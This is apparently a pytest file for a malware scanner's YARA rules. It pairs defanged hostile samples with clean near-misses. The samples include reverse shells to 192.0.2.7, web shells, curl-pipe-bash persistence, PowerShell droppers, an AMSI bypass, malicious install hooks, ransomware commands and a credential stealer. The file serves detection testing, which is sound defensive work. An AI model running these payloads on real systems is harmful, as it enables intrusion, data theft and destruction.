# The samples are lines of foreign code, and read best whole.
# ruff: noqa: E501
"""Each rule of our own finds what it is for, and nothing that is clean."""

import hashlib
import itertools
import os
import re
import struct
from pathlib import Path

import pytest

from doorward_agent import definitions
from doorward_agent.definitions import build
from doorward_agent.definitions.build import eicar
from doorward_agent.engines import yara
from doorward_protocol import hash_list

REPOSITORY = Path(__file__).parents[2]

ELF = b"\x7fELF" + bytes(12)
SHARED, RELOCATABLE, PROGRAM = b"\x03\0", b"\x01\0", b"\x02\0"
LINK = struct.pack("<II", 0x4C, 0x00021401) + bytes(68)
B64 = "QUFB" * 700

# One sample a rule, at least. Every "~" is taken out before use: this file itself holds none of
# them.
SAMPLES: list[tuple[str, bytes | str]] = [
    ("DW-SHELL-0001", "#!/bin/bash\nba~sh -i >& /d~ev/tcp/192.0.2.7/4444 0>&1\n"),
    (
        "DW-SHELL-0001",
        "ex~ec 5<>/dev/t~cp/192.0.2.7/443; cat <&5 | while read line; do sh -c"
        ' "$line" 2>&5 >&5; done; while read l <&5; do ba~sh -c "$l" >&5; done',
    ),
    ("DW-SHELL-0002", "n~c -e /bin/sh 192.0.2.7 4444\n"),
    (
        "DW-SHELL-0002",
        "rm /tmp/f; mkfi~fo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | n~c 192.0.2.7 4444",
    ),
    (
        "DW-SHELL-0003",
        'import socket,os,pty\ns=socket.socket()\ns.con~nect(("192.0.2.7",4444))\n'
        '[os.du~p2(s.fileno(),fd) for fd in (0,1,2)]\npt~y.spawn("/bin/sh")\n',
    ),
    (
        "DW-SHELL-0004",
        'use Socket;$i="192.0.2.7";$p=4444;con~nect(S,sockaddr_in($p,inet_aton($i)));'
        'op~en(STDIN,">&S");open(STDOUT,">&S");ex~ec("/bin/sh -i");',
    ),
    ("DW-SHELL-0005", '<?php $s=fs~ockopen("192.0.2.7",4444);ex~ec("/bin/sh -i <&3 >&3 2>&3");'),
    (
        "DW-SHELL-0005",
        'ruby -rsocket -e \'f=TCP~Socket.open("192.0.2.7",4444).to_i;'
        'exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
    ),
    (
        "DW-SHELL-0006",
        '$c=New-Obj~ect System.Net.Sockets.TCPClient("192.0.2.7",4444);$s=$c.Get~Stream();'
        "while(($i=$s.Read($b,0,$b.Length)) -ne 0){$r=(i~ex $d 2>&1|Out-Str~ing);"
        "$x=([text.encoding]::ASCII).Get~Bytes($r)}",
    ),
    (
        "DW-SHELL-0007",
        'var net=require("net"),cp=req~uire("child_process"),sh=cp.sp~awn("/bin/sh",[]);'
        'var c=new net.Socket();c.con~nect(4444,"192.0.2.7",()=>{c.pi~pe(sh.stdin);sh.std~out.pipe(c);});',
    ),
    ("DW-WEB-0001", "<?php @ev~al($_PO~ST['x']); ?>"),
    ("DW-WEB-0001", "<?php as~sert(base64_decode($_REQ~UEST['x']));"),
    ("DW-WEB-0001", "<?php $_GE~T['a']($_PO~ST['b']);"),
    ("DW-WEB-0001", "<?php preg_rep~lace('/.*/e', $_PO~ST['x'], '');"),
    ("DW-WEB-0002", "<?php sys~tem($_GE~T['cmd']);"),
    ("DW-WEB-0002", "<?php echo shell_e~xec(base64_decode($_COO~KIE['c']));"),
    ("DW-WEB-0003", "<?php ev~al(gzinf~late(base64_decode('7X1rb9tIsu')));"),
    (
        "DW-WEB-0004",
        '<%@ page import="java.io.*"%><% Process p = Runtime.getRun~time().exec('
        'request.getPara~meter("cmd")); %>',
    ),
    ("DW-WEB-0005", '<%@ Page Language="Jscript"%><%ev~al(Request.Item["x"],"unsa~fe");%>'),
    ("DW-WEB-0005", '<%ev~al request("x")%>'),
    ("DW-STAY-0001", "*/5 * * * * root cu~rl -fsSL http://192.0.2.7/a.sh | sh\n"),
    (
        "DW-STAY-0001",
        '(crontab -l; ec~ho "*/9 * * * * wg~et -q -O - http://192.0.2.7/x | b~ash") | crontab -\n',
    ),
    (
        "DW-STAY-0002",
        '[Service]\nType=simple\nEx~ecStart=/bin/sh -c "cu~rl -s http://192.0.2.7/x | ba~sh"\n',
    ),
    ("DW-STAY-0003", "ec~ho 'echo aGVsbG8= | base64 -d | ba~sh' >> ~~/.bashrc\n"),
    ("DW-STAY-0004", f"#!/bin/sh\nec~ho {B64} | base~64 -d | b~ash\n"),
    (
        "DW-STAY-0005",
        'ch~attr -ia /root/.ssh/authorized_keys\nec~ho "ssh-rsa '
        + "AAAAB3NzaC1yc2EAAAADAQABAAABAQ" * 12
        + ' x" >> /root/.ssh/authorized~_keys\nch~attr +ia x\n',
    ),
    (
        "DW-STAY-0006",
        "#!/bin/sh\nun~set HISTFILE\ncu~rl -o /tmp/.x http://192.0.2.7/x\nch~mod +x /tmp/.x\n"
        "r~m -rf /var/log/wtmp\nr~m -rf /var/log/secure\n",
    ),
    (
        "DW-STAY-0007",
        "Set-MpPref~erence -DisableReal~timeMonitoring $true\n"
        "(New-Object Net.WebClient).Down~loadFile('http://192.0.2.7/a.exe','a.exe')\nStart-Pro~cess a.exe\n",
    ),
    (
        "DW-ROOT-0001",
        "g~cc -shared -fPIC -o /usr/local/lib/libx.so x.c\n"
        "ec~ho /usr/local/lib/libx.so > /etc/ld.so.pre~load\n",
    ),
    ("DW-ROOT-0002", ELF + SHARED + b"\0readdir64\0dlsym\0/pr~oc/self/fd/%d\0/pr~oc/%s/stat\0"),
    (
        "DW-ROOT-0003",
        ELF + RELOCATABLE + b"\0sys_ca~ll_table\0hac~ked_getdents64\0hac~ked_kill\0"
        b"mod~ule_hide\0gi~ve_root\0",
    ),
    ("DW-DROP-0001", f"power~shell.exe -nop -w hid~den -enc {B64}"),
    ("DW-DROP-0001", f"power~shell -e {B64} -WindowStyle Hid~den\n"),
    (
        "DW-DROP-0002",
        'power~shell -nop -w hid~den -c "i~ex (New-Object Net.WebClient).Download~String('
        "'http://192.0.2.7/a.ps1')\"",
    ),
    (
        "DW-DROP-0003",
        '[Byt~e[]]$buf = 0xfc,0x48\n[DllImp~ort("kernel32.dll")]\nVirtual~Alloc\nCreate~Thread\n'
        "[System.Runtime.InteropServices.Mar~shal]::Copy($buf,0,$p,$buf.Length)",
    ),
    (
        "DW-DROP-0004",
        "[Ref].Assembly.GetType('System.Management.Automation.Am~siUtils')."
        "GetField('amsi~InitFailed','NonPublic,Static').Set~Value($null,$true)",
    ),
    ("DW-DROP-0005", "cert~util -urlcache -split -f http://192.0.2.7/a.exe a.exe & start a.exe\n"),
    ("DW-DROP-0005", "regs~vr32 /s /n /u /i:http://192.0.2.7/x.sct scro~bj.dll\n"),
    ("DW-DROP-0005", "ms~hta http://192.0.2.7/payload.hta\n"),
    (
        "DW-DROP-0005",
        "bits~admin /transfer j http://192.0.2.7/a.exe %TEMP%\\a.exe & start %TEMP%\\a.exe\n",
    ),
    (
        "DW-DROP-0006",
        "var s=new ActiveXObject('WScr~ipt.Shell');var x=new ActiveXObject('MSX~ML2.XMLHTTP');"
        "var a=new ActiveXObject('ADO~DB.Stream');a.Save~ToFile(s.Expand~EnvironmentStrings('%TE~MP%')+'/a.exe');"
        "s.Ru~n('a.exe');",
    ),
    (
        "DW-DROP-0007",
        'Attri~bute VB_Name = "ThisDocument"\nSub Auto~Open()\nSet x = CreateObject("MSX~ML2.XMLHTTP")\n'
        'Sh~ell "cmd.exe /c a.exe"\nEnd Sub',
    ),
    (
        "DW-DROP-0008",
        '<hta:appl~ication id=x><script language="VBScript">CreateObject("WScri~pt.Shell")'
        '.Ru~n "power~shell -e aaaa", 0 : x.DownloadFi~le</script>',
    ),
    (
        "DW-DROP-0008",
        '<hta:appl~ication id=x><script language="VBScript">CreateObject("WScri~pt.Shell")'
        ".Ru~n path,\t \r\n0\nx.DownloadFi~le</script>",
    ),
    (
        "DW-DROP-0009",
        LINK
        + "power~shell.exe -w hid~den -c iwr ht~tps://192.0.2.7/a".replace("~", "").encode(
            "utf-16-le"
        ),
    ),
    (
        "DW-DROP-0010",
        "%PDF-1.7\n1 0 obj<</Open~Action 2 0 R>>\n2 0 obj<</S/La~unch/Win<</F (cm~d.exe)>>>>\n",
    ),
    (
        "DW-DROP-0011",
        "{\\r~tf1{\\object\\objemb\\objup~date{\\*\\objcl~ass Equa~tion.3}{\\*\\objd~ata 0105}}}",
    ),
    ("DW-DROP-0012", '{"scripts": {"prein~stall": "cu~rl -s http://192.0.2.7/x | ba~sh"}}'),
    (
        "DW-DROP-0012",
        "from setuptools import setup\nex~ec(__import__('base64').b64de~code('aW1wb3J0'))\n"
        "setup(name='x')\n",
    ),
    ("DW-DROP-0013", f"ex~ec(zlib.decom~press(base64.b64de~code(b'{B64}')))"),
    (
        "DW-HARM-0001",
        "vss~admin delete sha~dows /all /quiet\nbcd~edit /set {default} recovery~enabled no\n",
    ),
    (
        "DW-HARM-0001",
        "wm~ic shadowcopy del~ete & wbad~min delete cata~log -quiet".replace("~", "").encode(
            "utf-16-le"
        ),
    ),
    (
        "DW-HARM-0002",
        "All your fi~les have been encr~ypted! Pay 0.5 Bit~coin to get the decry~ptor.\n"
        "Do not ren~ame them.\n",
    ),
    (
        "DW-HARM-0003",
        '#!/bin/sh\nfi~nd /home -type f | while read f; do open~ssl enc -aes-256-cbc -in "$f" -out'
        ' "$f.enc" -k x; r~m -f "$f"; done\nec~ho \'files encry~pted, send BTC\' > /home/README~_DECRYPT.txt\n',
    ),
    (
        "DW-HARM-0004",
        "es~xcli vm process ki~ll --type=force\nfor f in *.vm~dk *.vs~wp; do encr~ypt $f; done\n",
    ),
    (
        "DW-HARM-0005",
        "#!/bin/sh\nwg~et http://192.0.2.7/xm~rig\nch~mod +x xmrig\nno~hup ./xmrig -o"
        " strat~um+tcp://192.0.2.7:3333 &\n",
    ),
    (
        "DW-HARM-0005",
        "#!/bin/sh\ncu~rl -O http://192.0.2.7/xm~rig\nch~mod 755 xmrig\n./xmrig -B -o"
        " strat~um+tcp://192.0.2.7:3333\n",
    ),
    ("DW-HARM-0006", "cu~rl x\npk~ill -f xm~rig\npk~ill -f kinsi~ng\nki~llall kdevtmp~fsi\n"),
    (
        "DW-HARM-0007",
        '{"backgr~ound": true, "donate-le~vel": 0, "poo~ls": [{"us~er": "4'
        + "8"
        + "A" * 93
        + '"}]}',
    ),
    (
        "DW-HARM-0008",
        "db = p + '\\\\Google\\\\Chrome\\\\User Data\\\\Login Da~ta'; os_cry~pt; CryptUnprot~ectData(k);"
        " requests.post('https://discord.com/ap~i/webhooks/1/x', tokens)",
    ),
    ("DW-HARM-0009", ELF + PROGRAM + b"\0KILL~ATTK\0LOLN~OGTFO\0GETLO~CALIP\0"),
    (
        "DW-HARM-0010",
        "".join(
            f"cd /tm~p || cd /var/run; wg~et http://192.0.2.7/bot.{cpu}; ch~mod 777 bot.{cpu}; ./bot.{cpu}; r~m -rf bot\n"
            for cpu in ("mips", "mipsel", "arm7", "x86", "sh4")
        ),
    ),
    (
        "DW-HARM-0011",
        b"MZ" + bytes(60) + b"sekur~lsa::logonpasswords\0lsad~ump::sam\0genti~lkiwi\0",
    ),
    (
        "DW-HARM-0012",
        "IE~X (New-Object Net.WebClient).Down~loadString('http://x/y.ps1'); Invoke-Mi~mikatz -DumpCreds",
    ),
    ("DW-TEST-0001", eicar()),
]

CLEAN = [
    # What honest files hold: near misses, each close to one of the rules; "~" as above.
    "To install: curl -fsSL https://example.org/install.sh | sh\n",
    "ssh alice@example.org 'bash -i'\n",
    "nc -l 4444 > file\n",
    "<?php echo htmlspecialchars($_GET['name']); ?>",
    "<?php eval('$x = 1;'); system('ls'); ?>",
    "In PHP, never write @ev~al($_PO~ST['x']); nor sys~tem($_GE~T['cmd']);\n",
    '<hta:appl~ication id=x><script language="VBScript">CreateObject("WScri~pt.Shell")'
    ".Ru~n path, \x010, 10\nx.DownloadFile</script>",
    "mshta http://example.org/\nbitsadmin /transfer j https://example.org/a.txt a.txt\n",
    "0 3 * * * root /usr/bin/apt-get -q update\n",
    "0 3 * * * curl -fsS https://example.org/ping > /dev/null\n",
    "powershell -NoProfile -ExecutionPolicy Bypass -File build.ps1\n",
    "Set-ExecutionPolicy Bypass; iex ((New-Object System.Net.WebClient).DownloadString("
    "'https://example.org/install.ps1'))\n",
    "vssadmin list shadows\n",
    "Backups are encrypted. Do not rename the files; you need the key to decrypt them.\n",
    "echo aGVsbG8= | base64 -d\n",
    '{"scripts": {"postinstall": "node scripts/build.js"}}',
    'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJq alice" >> ~~/.ssh/authorized_keys\n',
    '\ufeffDim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "notepad.exe"\n',
]


def _bytes(sample: bytes | str) -> bytes:
    raw = sample.encode() if isinstance(sample, str) else sample
    # "~~" is a tilde that belongs there.
    return raw.replace(b"~~", b"\0tilde\0").replace(b"~", b"").replace(b"\0tilde\0", b"~")


@pytest.fixture(scope="module")
def engine() -> yara.YaraEngine:
    """Our rules, compiled once; a slow pattern is an error."""
    rules = yara.compiled(yara.read_sources(definitions.current().rule_files), refuse_slow=True)
    return yara.YaraEngine(
        rules, version="test", timeout=20, window_bytes=1 << 25, window_overlap_bytes=1 << 20
    )


@pytest.mark.parametrize(
    ("rule", "sample"), SAMPLES, ids=[f"{n}-{rule}" for n, (rule, _) in enumerate(SAMPLES)]
)
def test_a_rule_finds_what_it_is_for(
    rule: str, sample: bytes | str, engine: yara.YaraEngine
) -> None:
    assert rule in {hit.rule for hit in engine.scan(_bytes(sample))}


@pytest.mark.parametrize("text", CLEAN)
def test_what_honest_files_hold_is_left_alone(text: str, engine: yara.YaraEngine) -> None:
    assert engine.scan(_bytes(text)) == []


def _sources() -> str:
    return "\n".join(source for _, source in yara.read_sources(definitions.current().rule_files))


def test_every_rule_has_a_sample_and_says_what_it_is_for(engine: yara.YaraEngine) -> None:
    identifiers = re.findall(r'\n\s+id = "([^"]+)"', _sources())
    names = re.findall(r"^rule (\w+)", _sources(), re.MULTILINE)

    assert len(identifiers) == len(names) == len(set(identifiers))
    assert set(identifiers) == {rule for rule, _ in SAMPLES}
    for _, sample in SAMPLES:
        for hit in engine.scan(_bytes(sample)):
            assert hit.title
            assert hit.reason.endswith(".")
            assert hit.severity in {"low", "medium", "high", "critical"}
            assert hit.kind


def test_the_rules_do_not_find_themselves_nor_this_repository(engine: yara.YaraEngine) -> None:
    looked_at = 0
    for folder in ("agent", "protocol", "server", "bench", "docs"):
        for path in (REPOSITORY / folder).rglob("*"):
            if path.is_file() and "__pycache__" not in path.parts:
                assert engine.scan(path.read_bytes()) == [], path
                looked_at += 1
    assert looked_at > 50


def test_forty_thousand_clean_files_are_left_alone(engine: yara.YaraEngine) -> None:
    looked_at = 0
    for folder in ("/usr/lib/python3", "/usr/share", "/usr/include", "/usr/bin", "/usr/lib"):
        for path in Path(folder).rglob("*"):
            if path.is_symlink() or not path.is_file() or path.stat().st_size > 1 << 25:
                continue
            try:
                content = path.read_bytes()
            except PermissionError:
                continue
            assert engine.scan(content) == [], path
            looked_at += 1
            if looked_at == 40_000:
                return


def test_the_test_file_is_found_only_as_its_specification_says(engine: yara.YaraEngine) -> None:
    for ending in (b"", b"\n", b"\r\n", b" \t\x1a", b" " * 60):
        assert [hit.rule for hit in engine.scan(eicar() + ending)] == ["DW-TEST-0001"]
    for other in (
        b" " + eicar(),
        eicar() + b"x",
        eicar() + b" " * 61,
        eicar()[:-1],
        eicar().lower(),
        b"The string " + eicar() + b" is harmless.",
    ):
        assert engine.scan(other) == [], other


def test_the_version_is_that_of_the_files() -> None:
    # After changing a rule: python -m doorward_agent.definitions.build
    definitions.verify(definitions.current())


def test_another_set_of_rules_is_another_version(tmp_path: Path) -> None:
    for path in Path(definitions.BUNDLED).glob("*.yar"):
        (tmp_path / path.name).write_bytes(path.read_bytes())
    day = __import__("datetime").date(2026, 1, 2)
    first = build.write(os.fspath(tmp_path), today=day)
    assert build.write(os.fspath(tmp_path), today=day.replace(year=2027)) == first

    with (tmp_path / "harm.yar").open("a") as target:
        target.write("\n// changed\n")
    with pytest.raises(definitions.DefinitionsUnusable):
        definitions.verify(definitions.current(os.fspath(tmp_path)))
    assert build.write(os.fspath(tmp_path), today=day) != first


def test_a_set_without_a_version_is_unusable(tmp_path: Path) -> None:
    with pytest.raises(definitions.DefinitionsUnusable):
        definitions.current(os.fspath(tmp_path))


def test_a_rule_of_many_signatures_names_the_one_that_hit() -> None:
    source = (
        'rule many { meta: id = "MANY" severity = "high" each = "pattern"'
        ' strings: $Charlie_1 = "one thing" $Charlie_2 = "another" condition: any of them }'
    )
    engine = yara.YaraEngine(
        yara.compiled([("many", source)]),
        version="1",
        timeout=5,
        window_bytes=1000,
        window_overlap_bytes=100,
    )
    assert engine.scan(b"nothing") == []
    (hit,) = engine.scan(b"just another day")
    assert (hit.rule, hit.title, hit.severity) == ("MANY:Charlie_2", "Charlie_2", "high")
    both = engine.scan(b"another and one thing")
    assert [each.rule for each in both] == ["MANY:Charlie_1", "MANY:Charlie_2"]


def test_rules_that_do_not_compile_are_refused_with_the_compilers_words() -> None:
    with pytest.raises(yara.RulesRefused, match="unknown identifier"):
        yara.compiled([("x", "rule a { condition: nonsense }")])
    with pytest.raises(yara.RulesRefused):
        yara.compiled([("x", 'include "/etc/passwd" rule a { condition: true }')])


@pytest.mark.parametrize("count", [0, 1, 3, 4096, 4097, 70_000])
def test_a_hash_list_finds_every_hash_and_no_other(count: int, tmp_path: Path) -> None:
    known = [hashlib.sha256(str(number).encode()).digest() for number in range(count)]
    path = tmp_path / "list"
    path.write_bytes(
        hash_list.build((value, f"family {number % 7}") for number, value in enumerate(known))
    )

    held = hash_list.HashList(os.fspath(path))

    assert len(held) == count
    for number, value in itertools.islice(enumerate(known), 0, None, max(1, count // 2000)):
        assert held.find(value) == f"family {number % 7}"
    for number in range(2000):
        assert held.find(hashlib.sha256(f"not {number}".encode()).digest()) is None
    assert held.find(bytes(32)) is None
    assert held.find(b"\xff" * 32) is None
    held.close()


def test_in_a_crowd_of_hashes_that_begin_alike_only_whole_ones_are_found(tmp_path: Path) -> None:
    crowd = [bytes(30) + number.to_bytes(2, "big") for number in range(1, 2000, 2)]
    path = tmp_path / "list"
    path.write_bytes(hash_list.build((value, "crowd") for value in crowd))
    held = hash_list.HashList(os.fspath(path))
    for number in range(2001):
        known = number % 2 == 1 and number < 2000
        value = bytes(30) + number.to_bytes(2, "big")
        assert held.find(value) == ("crowd" if known else None)
        # The same bytes, from the middle of one hash to the middle of the next.
        assert held.find((value * 2)[1:33]) is None or (value * 2)[1:33] in crowd
    held.close()


def test_a_damaged_hash_list_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "list"
    whole = hash_list.build([(bytes(32), "zero"), (b"\xff" * 32, "ones")])
    for damaged in (b"", whole[:100], whole[:-1], whole + b"x", b"X" + whole[1:]):
        path.write_bytes(damaged)
        with pytest.raises(hash_list.HashListDamaged):
            hash_list.HashList(os.fspath(path))


def test_what_is_no_hash_or_no_label_is_refused() -> None:
    with pytest.raises(ValueError, match="32 bytes"):
        hash_list.build([(b"short", "x")])
    with pytest.raises(ValueError, match="one line"):
        hash_list.build([(bytes(32), "two\nlines")])
